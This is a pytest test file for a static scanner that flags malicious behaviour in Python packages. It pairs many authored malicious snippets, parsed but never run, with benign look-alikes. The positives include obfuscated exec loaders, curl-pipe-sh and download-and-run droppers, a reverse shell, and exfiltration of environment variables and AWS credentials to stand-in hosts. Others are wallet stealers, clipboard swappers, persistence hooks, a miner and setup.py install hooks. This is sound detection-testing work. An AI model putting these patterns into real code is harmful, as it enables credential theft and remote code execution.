"""Each behaviour rule on small authored snippets: positives and legitimate look-alikes.

Snippets are analysed (parsed, never run) on their own as a distribution's file;
``expect`` lists (rule, severity) pairs that must be reported, ``quiet`` the
severity from which nothing at all may be reported.
"""

from __future__ import annotations

import base64
import codecs
import zlib
from dataclasses import dataclass, field

import pytest
from behaviourkit import judge, rules_at_least

from wellcheck.models import Severity
from wellcheck.signals.behaviour.facts import Role

C, H, M, L = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW
PAYLOAD = "import os; os.system('id > /tmp/wellcheck-marker')"
B64 = base64.b64encode(PAYLOAD.encode()).decode()
ZB64 = base64.b64encode(zlib.compress(PAYLOAD.encode())).decode()
HEX = PAYLOAD.encode().hex()
ROT = codecs.encode(PAYLOAD, "rot13")
CHRS = ", ".join(str(ord(c)) for c in PAYLOAD)
STUB_BLOB = repr(zlib.compress(PAYLOAD.encode())[::-1])


@dataclass(frozen=True)
class Case:
    name: str
    source: str
    expect: set[tuple[str, Severity]] = field(default_factory=set)
    quiet: Severity | None = None  # nothing reported at or above this
    role: Role = Role.MODULE
    path: str = "pkg/__init__.py"
    entry: bool = True  # a non-entry module is parsed only when the prefilter says so
    pure: bool = True
    linux: bool = True


DECODE = "WC-CODE-DECODE-EXEC"
DOWNLOAD = "WC-CODE-DOWNLOAD-EXEC"
POSITIVES = [
    Case(
        "base64 exec at import", f"import base64\nexec(base64.b64decode('{B64}'))\n", {(DECODE, C)}
    ),
    Case(
        "zlib+base64 exec in a function nothing calls",
        f"import zlib, base64\ndef go():\n    exec(zlib.decompress(base64.b64decode('{ZB64}')))\n",
        {(DECODE, H)},
    ),
    Case("hex exec", f"exec(bytes.fromhex('{HEX}').decode())\n", {(DECODE, C)}),
    Case("rot13 exec", f"import codecs\nexec(codecs.decode({ROT!r}, 'rot13'))\n", {(DECODE, C)}),
    Case("reversed literal exec", f"exec({PAYLOAD[::-1]!r}[::-1])\n", {(DECODE, C)}),
    Case("chr join exec", f"exec(''.join(chr(c) for c in [{CHRS}]))\n", {(DECODE, C)}),
    Case(
        "__import__ indirection",
        f"exec(__import__('base64').b64decode('{B64}'))\n",
        {(DECODE, C)},
    ),
    Case(
        "getattr builtins indirection",
        f"import base64\ngetattr(__builtins__, 'ex' + 'ec')(base64.b64decode('{B64}'))\n",
        {(DECODE, C)},
    ),
    Case(
        "lambda decompress stub",
        f"_ = lambda __ : __import__('zlib').decompress(__[::-1])\nexec((_)({STUB_BLOB}))\n",
        {(DECODE, C)},
    ),
    Case(
        "marshal of a literal",
        "import marshal\nexec(marshal.loads(b'\\xe3\\x00\\x00'))\n",
        {(DECODE, C)},
    ),
    Case(
        "exec of a download",
        "import urllib.request\nexec(urllib.request.urlopen('http://203.0.113.9/p').read())\n",
        {(DOWNLOAD, C)},
    ),
    Case(
        "curl pipe sh in a function called at import",
        "import os\ndef setup():\n    os.system('curl -s https://x.example/a.sh | sh')\nsetup()\n",
        {(DOWNLOAD, C)},
    ),
    Case(
        "powershell encoded command",
        "import subprocess\nsubprocess.Popen('powershell -w hidden -enc SQBFAFgA', shell=True)\n",
        {(DOWNLOAD, C)},
    ),
    Case(
        "dropper in a library function",
        "import os, requests, subprocess\n"
        "def fetch(url):\n"
        "    r = requests.get(url)\n"
        "    with open('/tmp/tool', 'wb') as f:\n"
        "        f.write(r.content)\n"
        "    os.chmod('/tmp/tool', 0o755)\n"
        "    subprocess.run(['/tmp/tool'])\n",
        {(DOWNLOAD, H)},
    ),
    Case(
        "reverse shell in a thread started at import",
        "import os, socket, subprocess, threading\n"
        "def shell():\n"
        "    s = socket.socket()\n"
        "    s.connect(('198.51.100.7', 4444))\n"
        "    os.dup2(s.fileno(), 0)\n"
        "    os.dup2(s.fileno(), 1)\n"
        "    subprocess.call(['/bin/sh', '-i'])\n"
        "threading.Thread(target=shell, daemon=True).start()\n",
        {("WC-CODE-REVERSE-SHELL", C)},
    ),
    Case(
        "socket as a shell's stdin",
        "import socket, subprocess\n"
        "def shell(host):\n"
        "    s = socket.create_connection((host, 9001))\n"
        "    subprocess.Popen(['/bin/bash'], stdin=s.fileno(), stdout=s.fileno())\n",
        {("WC-CODE-REVERSE-SHELL", H)},
    ),
    Case(
        "environment posted at import",
        "import os, requests\nrequests.post('https://collect.example/e', json=dict(os.environ))\n",
        {("WC-CODE-EXFILTRATION", C)},
    ),
    Case(
        "host details to a fixed address at import",
        "import socket, getpass, requests\n"
        "requests.get('http://203.0.113.5/?h=' + socket.gethostname() + getpass.getuser())\n",
        {("WC-CODE-EXFILTRATION", H)},
    ),
    Case(
        "instance credentials relayed",
        "import requests\n"
        "META = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/role'\n"
        "def relay():\n"
        "    creds = requests.get(META).text\n"
        "    requests.post('https://203.0.113.8/c', data=creds)\n",
        {("WC-CODE-EXFILTRATION", H)},
    ),
    Case(
        "discord webhook at import",
        "import requests\nrequests.post('https://discord.com/api/webhooks/1/x', json={'a': 1})\n",
        {("WC-CODE-SINK", H)},
    ),
    Case(
        "aws credentials file sent out",
        "import os, requests\n"
        "def grab():\n"
        "    return open(os.path.expanduser('~/.aws/credentials')).read()\n"
        "def send():\n"
        "    requests.post('https://203.0.113.1/u', data=grab())\n"
        "send()\n",
        {("WC-CODE-EXFILTRATION", C)},
    ),
    Case(
        "browser and wallet stores with a way out",
        "import os, requests\n"
        "PATHS = [r'Google\\Chrome\\User Data\\Default\\Login Data', r'Exodus\\exodus.wallet']\n"
        "def steal():\n"
        "    for p in PATHS:\n"
        "        requests.post('https://203.0.113.1/f', files={'f': open(p, 'rb')})\n",
        {("WC-CODE-STEALER", H)},
    ),
    Case(
        "seed phrase posted to a fixed address",
        "import requests\n"
        "def restore(mnemonic_phrase):\n"
        "    body = {'mnemonic': mnemonic_phrase}\n"
        "    requests.post('https://wallet-check.example/api', json=body)\n",
        {("WC-CODE-EXFILTRATION", H)},
    ),
    Case(
        "clipboard coin swap",
        "import re, pyperclip\n"
        "BTC = re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$')\n"
        "def watch():\n"
        "    if BTC.match(pyperclip.paste()):\n"
        "        pyperclip.copy('bc1qattacker')\n",
        {("WC-CODE-CLIPPER", H)},
    ),
    Case(
        "bashrc appended at import",
        "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('python -m pkg &')\n",
        {("WC-CODE-PERSISTENCE", H)},
    ),
    Case(
        "run key at import",
        "import winreg\n"
        "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER,\n"
        "    r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n"
        "winreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, 'C:\\\\x.exe')\n",
        {("WC-CODE-PERSISTENCE", H), ("WC-CODE-WINDOWS-PAYLOAD", M)},
    ),
    Case(
        "pth file planted at import",
        "import site\nopen(site.getsitepackages()[0] + '/zz.pth', 'w').write('import pkg')\n",
        {("WC-CODE-PERSISTENCE", H)},
    ),
    Case(
        "miner started at import",
        "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://pool.example:3333'])\n",
        {("WC-CODE-MINER", C)},
    ),
    Case(
        "shell command at import",
        "import subprocess\nINFO = subprocess.run('uname -a; id', shell=True)\n",
        {("WC-CODE-IMPORT-SPAWN", H)},
    ),
    Case(
        "tool run at import",
        "import subprocess\nFONTS = subprocess.check_output(['fc-list', '--format=%{file}'])\n",
        {("WC-CODE-IMPORT-SPAWN", L)},
    ),
    Case(
        "connection at import",
        "import urllib.request\nurllib.request.urlopen('https://example.org/ping')\n",
        {("WC-CODE-IMPORT-NETWORK", H)},
    ),
    Case(
        "configured connection at import",
        "import os, urllib.request\nurllib.request.urlopen(os.environ['CONFIG_URL'])\n",
        {("WC-CODE-IMPORT-NETWORK", L)},
    ),
    Case(
        "decorator runs at import",
        "import subprocess\n"
        "def register(f):\n"
        "    subprocess.Popen(['sh', '-c', 'id'])\n"
        "    return f\n"
        "@register\n"
        "def api():\n"
        "    pass\n",
        {("WC-CODE-IMPORT-SPAWN", H)},
    ),
    Case(
        "class body and constructor at import",
        "import os\nclass Boot:\n    def __init__(self):\n        os.system('id')\nBOOT = Boot()\n",
        {("WC-CODE-IMPORT-SPAWN", H)},
    ),
    Case(
        "atexit hook downloading",
        "import atexit, os\n"
        "def bye():\n"
        "    os.system('wget -q http://x.example/b -O /tmp/b && chmod +x /tmp/b && /tmp/b')\n"
        "atexit.register(bye)\n",
        {(DOWNLOAD, C)},
    ),
    Case(
        "windows payload in a linux artifact",
        "import os\nos.startfile(os.path.join(os.getenv('APPDATA'), 'u.exe'))\n",
        {("WC-CODE-WINDOWS-PAYLOAD", M)},
    ),
    Case(
        "pyarmor runtime",
        "from .pyarmor_runtime_000000 import __pyarmor__\n"
        "__pyarmor__(__name__, __file__, b'PY0000')\n",
        {("WC-CODE-OBFUSCATED", H)},
    ),
    Case(
        "setup.py downloads and runs",
        "import urllib.request\nfrom setuptools import setup\n"
        "exec(urllib.request.urlopen('https://203.0.113.2/s').read())\nsetup(name='x')\n",
        {(DOWNLOAD, C)},
        role=Role.INSTALL,
        path="setup.py",
    ),
    Case(
        "setup.py post-install hook spawning a download",
        "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
        "class Post(install):\n"
        "    def run(self):\n"
        "        os.system('curl http://x.example/i | bash')\n"
        "setup(name='x', cmdclass={'install': Post})\n",
        {(DOWNLOAD, C)},
        role=Role.INSTALL,
        path="setup.py",
    ),
    Case(
        "executable pth line",
        "import os; os.system('id')\n",
        {("WC-CODE-IMPORT-SPAWN", H)},
        role=Role.STARTUP,
        path="zz_evil.pth",
    ),
]

POSITIVES += [
    Case(
        "remote commands run through a helper",
        "import requests, subprocess\n"
        "def debug():\n"
        "    resp = requests.get('https://c2.example/').text\n"
        "    return runcommand(resp)\n"
        "def runcommand(value):\n"
        "    return subprocess.run(value, shell=True, capture_output=True)\n",
        {(DOWNLOAD, H)},
    ),
    Case(
        "download command built in an f-string",
        "import random, subprocess\n"
        "def start():\n"
        "    name = str(random.randint(1, 9))\n"
        "    subprocess.run(f'wget -qO /tmp/{name} https://x.example/b && chmod +x /tmp/{name}',\n"
        "                   shell=True)\n",
        {(DOWNLOAD, H)},
    ),
    Case(
        "environment gathered into a dict and sent",
        "import os, requests\n"
        "def report():\n"
        "    data = {}\n"
        "    for key, value in os.environ.items():\n"
        "        data[key] = value\n"
        "    requests.get('https://collector.example/h/' + str(data))\n",
        {("WC-CODE-EXFILTRATION", H)},
    ),
    Case(
        "request helper called at import with a bare address",
        "import json, urllib.request\n"
        "def send(url, data):\n"
        "    req = urllib.request.Request(url, data=json.dumps(data).encode(), method='POST')\n"
        "    return urllib.request.urlopen(req).read()\n"
        "send('http://203.0.113.77:8080/submit', {'a': 1})\n",
        {("WC-CODE-IMPORT-NETWORK", H)},
    ),
    Case(
        "command decoded by a helper",
        "import base64, subprocess\n"
        "def decode_str(text):\n"
        "    raw = base64.b64decode(text)\n"
        "    return raw.decode('utf-8')\n"
        "def go():\n"
        "    command = decode_str('d2dldCAtcU8gL3RtcC94IGh0dHBzOi8vZXZpbC5leGFtcGxl')\n"
        "    subprocess.run(command, shell=True)\n",
        {(DECODE, H)},
    ),
    Case(
        "private key posted to a hosted mock API from a plain module",
        "import requests\n"
        "def perm(private_key):\n"
        "    url = 'https://67b9f37c51192bd378dee810.mockapi.io/tron/tron'\n"
        "    requests.post(url, json={'private_key': private_key})\n",
        {("WC-CODE-SINK", H)},
        path="pkg/main.py",
        entry=False,
    ),
    Case(
        "bot token written in a built chat URL",
        "import requests\n"
        "def from_key(key):\n"
        "    requests.get(\n"
        "        f'https://api.telegram.org/bot1234567890:EXAMPLEexampleEXAMPLEexample0000000'\n"
        "        f'/sendMessage?chat_id=629029&text={key}', timeout=3)\n",
        {("WC-CODE-SINK", H)},
    ),
    Case(
        "address decoded and handed to a helper that posts to it",
        "import base64\nfrom requests import post\n"
        "def send(url, vault):\n"
        "    post(url, json={'b64': vault})\n"
        "def backup(vault):\n"
        "    where = base64.b64decode('aHR0cHM6Ly9jMi5leGFtcGxlL3VwbG9hZA==')\n"
        "    send(where.decode('ascii'), vault)\n",
        {("WC-CODE-OBFUSCATED", H)},
    ),
    Case(
        "credentials kept on self by one method, sent by another",
        "import requests\nfrom os import environ\n"
        "class Ctx(dict):\n"
        "    def __init__(self):\n"
        "        self.secret = environ.get('AWS_SECRET_ACCESS_KEY')\n"
        "        self.send()\n"
        "    def send(self):\n"
        "        requests.get('https://collector.example/k/' + self.secret)\n",
        {("WC-CODE-EXFILTRATION", H)},
    ),
    Case(
        "obfuscator signature in a module nothing flags otherwise",
        "from builtins import *\n"
        "__obfuscator__ = 'x'\n"
        "Power, Run = exec, map\n"
        "class Frame:\n"
        "    def __init__(self, value):\n"
        "        self.value = value\n",
        {("WC-CODE-OBFUSCATED", H)},
        path="pkg/main.py",
        entry=False,
    ),
    Case(
        "names spelled with letters sliced from builtins' text, in a non-entry module",
        "import sys\n"
        "_c = getattr(__builtins__, oct.__str__()[-3] + hex.__str__()[-1 << 2] + 'r')\n"
        "if sys.platform == ''.join(map(_c, [108, 105, 110, 117, 120])):\n"
        "    pass\n",
        {("WC-CODE-OBFUSCATED", H)},
        path="pkg/util.py",
        entry=False,
    ),
    Case(
        "a download saved under a bare file name and run by that name",
        "import requests, subprocess\n"
        "def run():\n"
        "    r = requests.get('https://files.example/s/123.exe?dl=1')\n"
        "    open('123.exe', 'wb').write(r.content)\n"
        "    subprocess.run(['123.exe'], check=True)\n",
        {(DOWNLOAD, H)},
    ),
    Case(
        "a download handed to an installer that runs it",
        "import subprocess, urllib.request\n"
        "def update(url):\n"
        "    path, _ = urllib.request.urlretrieve(url)\n"
        "    subprocess.run(['msiexec', '/i', path, '/qn'])\n",
        {(DOWNLOAD, H)},
    ),
    Case(
        "download through a helper, then run",
        "import os, subprocess, urllib.request\n"
        "def fetch(url, path):\n"
        "    urllib.request.urlretrieve(url, path)\n"
        "def go():\n"
        "    fetch('http://203.0.113.9/agent', '/tmp/agent')\n"
        "    subprocess.Popen(['/tmp/agent'])\n",
        {(DOWNLOAD, H)},
    ),
]

NEGATIVES = [
    Case(
        "a downloaded media file probed by a named tool",
        "import base64, subprocess, urllib.request\n"
        "def probe(url, blob):\n"
        "    path, _ = urllib.request.urlretrieve(url)\n"
        "    subprocess.run(['ffprobe', '-v', 'error', path], check=True)\n"
        "    data = base64.b64decode(blob)\n"
        "    subprocess.run(['/usr/bin/file', '-b', data.decode()])\n"
        "    urllib.request.urlretrieve('https://media.example/clip.mp4', '/tmp/clip.mp4')\n"
        "    subprocess.run(['ffprobe', '/tmp/clip.mp4'])\n"
        "def inspect(path):\n"
        "    return subprocess.run(['ffprobe', '-show_streams', path], capture_output=True)\n"
        "def fetch_and_inspect(url, b64):\n"
        "    inspect(urllib.request.urlopen(url).read())\n"
        "    inspect(base64.b64decode(b64))\n",
        quiet=H,
    ),
    Case(
        "a class's own text, and a local name that shadows a builtin",
        "class Version:\n"
        "    def short(self):\n"
        "        return self.__str__()[:7]\n"
        "hex = Version()\n"
        "print(hex.__str__()[2:])\n"
        "def plain(text):\n"
        "    return str.__str__(text)[:80]\n",
        quiet=L,
    ),
    Case(
        "library function running a process when called",
        "import subprocess\ndef run(cmd):\n    return subprocess.run(cmd, check=True)\n",
        quiet=L,
    ),
    Case(
        "sdk reading AWS variables for its own endpoint",
        "import os, requests\n"
        "def credentials():\n"
        "    return os.environ.get('AWS_SECRET_ACCESS_KEY'), os.getenv('AWS_SESSION_TOKEN')\n"
        "def call(endpoint, body):\n"
        "    return requests.post(endpoint, data=body)\n",
        quiet=M,
    ),
    Case(
        "six exec_ definitions",
        'exec("""def reraise(tp, value, tb=None):\n    raise value\n""")\n',
        quiet=L,
    ),
    Case(
        "dataclass-style code generation",
        "def make(name, fields):\n"
        "    script = 'def __init__(self, ' + ', '.join(fields) + '): pass'\n"
        "    ns = {}\n"
        "    exec(compile(script, name, 'exec'), ns)\n"
        "    return ns['__init__']\n",
        quiet=L,
    ),
    Case(
        "cache deserialising",
        "import base64, pickle\ndef load(blob):\n    return pickle.loads(base64.b64decode(blob))\n",
        quiet=L,
    ),
    Case(
        "platform wheel loading its own library",
        "import ctypes, os\n"
        "_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), '_native.so'))\n",
        quiet=L,
        pure=False,
    ),
    Case("ansi colours on windows", "import os\nif os.name == 'nt':\n    os.system('')\n", quiet=M),
    Case(
        "wallet library signing locally",
        "def sign(private_key, tx):\n    return {'private_key': None, 'tx': tx}\n",
        quiet=L,
    ),
    Case("main guard", "import os\nif __name__ == '__main__':\n    os.system('make')\n", quiet=M),
    Case(
        "environment copied for a child process",
        "import os, subprocess\ndef run(cmd):\n    env = os.environ.copy()\n    env['X'] = '1'\n"
        "    return subprocess.run(cmd, env=env)\n",
        quiet=L,
    ),
    Case("client built at import", "import requests\nSESSION = requests.Session()\n", quiet=L),
    Case(
        "cloud sdk reading instance metadata",
        "import requests\n"
        "def instance():\n"
        "    url = 'http://169.254.169.254/metadata/instance'\n"
        "    return requests.get(url, headers={'Metadata': 'true'}, timeout=2).json()\n",
        quiet=M,
    ),
    Case(
        "registry read in a function",
        "import winreg\ndef zone():\n"
        "    k = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r'SYSTEM\\Tz')\n"
        "    return winreg.QueryValueEx(k, 'TimeZoneKeyName')\n",
        quiet=L,
    ),
    Case(
        "test exec",
        "def test_exec():\n    ns = {}\n    exec('a = 1', ns)\n    assert ns['a'] == 1\n",
        quiet=L,
    ),
    Case(
        "setup.py building an extension",
        "import subprocess\nfrom setuptools import setup\n"
        "subprocess.check_call(['cmake', '..'])\nsetup(name='x')\n",
        quiet=M,
        role=Role.INSTALL,
        path="setup.py",
    ),
    Case(
        "webhook client library",
        "import requests\nTEMPLATE = 'https://discord.com/api/webhooks/{id}/{token}'\n"
        "def send(id, token, content):\n"
        "    url = TEMPLATE.format(id=id, token=token)\n"
        "    return requests.post(url, json={'content': content})\n",
        quiet=M,
    ),
    Case(
        "bot API client taking its token from the caller",
        "import requests\n"
        "def notify(token, chat, text):\n"
        "    url = f'https://api.telegram.org/bot{token}/sendMessage'\n"
        "    return requests.post(url, data={'chat_id': chat, 'text': text})\n",
        quiet=M,
    ),
    Case(
        "SDK client keeping its API key on self",
        "import os, requests\n"
        "class Client:\n"
        "    def __init__(self, api_key=None):\n"
        "        self.api_key = api_key or os.environ.get('EXAMPLE_API_KEY')\n"
        "    def complete(self, prompt):\n"
        "        headers = {'Authorization': f'Bearer {self.api_key}'}\n"
        "        return requests.post('https://api.example.com/v1/complete', headers=headers)\n",
        quiet=M,
    ),
    Case(
        "gateway connecting where it is configured, started at import",
        "import os, socket\n"
        "class Gateway:\n"
        "    def __init__(self):\n"
        "        self.address = os.environ.get('GATEWAY_HOST', 'localhost')\n"
        "        self.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
        "        self.start()\n"
        "    def start(self):\n"
        "        self.socket.connect((self.address, 25333))\n"
        "        self.stream = self.socket.makefile('rb')\n"
        "        self.socket.sendall(b'HELLO\\n')\n"
        "GATEWAY = Gateway()\n",
        quiet=M,
    ),
    Case(
        "embedded server: a release tag fetched, its binary run by another method",
        "import subprocess, httpx\n"
        "class Embedded:\n"
        "    def __init__(self):\n"
        "        latest = httpx.get('https://api.github.com/repos/o/r/releases/latest').json()\n"
        "        self.version = latest['tag_name']\n"
        "    def start(self):\n"
        "        self.binary = f'/opt/server-{self.version}'\n"
        "        return subprocess.Popen([self.binary, '--port', '8079'])\n",
        quiet=H,
    ),
    Case(
        "build helper fetching a tool for later",
        "import os, urllib.request\n"
        "def fetch_flamegraph(path):\n"
        "    urllib.request.urlretrieve('https://raw.example.org/flamegraph.pl', path)\n"
        "    os.chmod(path, 0o755)\n",
        quiet=H,
    ),
    Case(
        "version control call, then a download",
        "import subprocess, urllib.request\n"
        "def get(url, dest):\n"
        "    subprocess.run(['git', 'status'])\n"
        "    with urllib.request.urlopen(url) as response, open(dest, 'wb') as out:\n"
        "        out.write(response.read())\n",
        quiet=M,
    ),
    Case(
        "helper saving a response and running git on another path, called once",
        "import shutil, subprocess, urllib.request\n"
        "def get(url, dest, vcs):\n"
        "    if vcs:\n"
        "        subprocess.run(['git', 'clone', url, dest])\n"
        "        return\n"
        "    with urllib.request.urlopen(url) as response, open(dest, 'wb') as out:\n"
        "        out.write(response.read())\n"
        "def resolve(url, dest):\n"
        "    return get(url, dest, False)\n",
        quiet=H,
    ),
    Case(
        "image layers saved by one helper, a directory prepared by another",
        "import os, subprocess, urllib.request\n"
        "def pull(url, dest):\n"
        "    with urllib.request.urlopen(url) as response, open(dest, 'wb') as out:\n"
        "        out.write(response.read())\n"
        "def seed(root):\n"
        "    os.chmod(root, 0o1777)\n"
        "def build(root):\n"
        "    subprocess.run(['mkfs.erofs', root + '.img', root])\n"
        "def prepare(url, root):\n"
        "    pull(url, root + '/layer.tar')\n"
        "    seed(root)\n"
        "    build(root)\n",
        quiet=H,
    ),
    Case(
        "clipboard helper", "import pyperclip\ndef copy(text):\n    pyperclip.copy(text)\n", quiet=L
    ),
    Case(
        "install instructions in a docstring",
        '"""Install the CLI with: curl https://x.example/install | sh"""\nimport subprocess\n',
        quiet=L,
    ),
    Case(
        "shell completion installer",
        "import os\ndef install():\n"
        "    open(os.path.expanduser('~/.bashrc'), 'a').write('eval x')\n",
        quiet=M,
    ),
]


@pytest.mark.parametrize("case", POSITIVES, ids=lambda c: c.name)
def test_behaviour_is_reported_with_its_context_severity(case: Case) -> None:
    found = judge(
        case.source,
        role=case.role,
        path=case.path,
        entry=case.entry,
        pure=case.pure,
        linux=case.linux,
    )
    assert case.expect <= found, found


@pytest.mark.parametrize("case", NEGATIVES, ids=lambda c: c.name)
def test_legitimate_look_alikes_stay_quiet(case: Case) -> None:
    assert case.quiet is not None
    found = judge(
        case.source,
        role=case.role,
        path=case.path,
        entry=case.entry,
        pure=case.pure,
        linux=case.linux,
    )
    assert not rules_at_least(found, case.quiet), found
